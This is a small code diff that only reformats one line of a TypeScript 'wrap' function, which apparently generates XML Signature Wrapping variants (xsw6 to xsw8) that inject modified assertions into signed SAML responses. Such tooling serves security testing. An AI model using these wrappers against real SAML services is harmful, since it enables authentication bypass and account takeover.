@@ -37,7 +37,10 @@ export function wrap(signedResponse: string, wrapping: Wrapping, { replace, by }
     case 'xsw6':
       return put(afterIssuer(evil, inside(bare)));
     case 'xsw7':
-      return signedResponse.replace('<samlp:Status>', `<samlp:Extensions>${bare.replaceAll(replace, by)}</samlp:Extensions><samlp:Status>`);
+      return signedResponse.replace(
+        '<samlp:Status>',
+        `<samlp:Extensions>${bare.replaceAll(replace, by)}</samlp:Extensions><samlp:Status>`,
+      );
     case 'xsw8':
       return put(afterIssuer(evil, inside(`<ds:Object>${bare}</ds:Object>`)));
   }
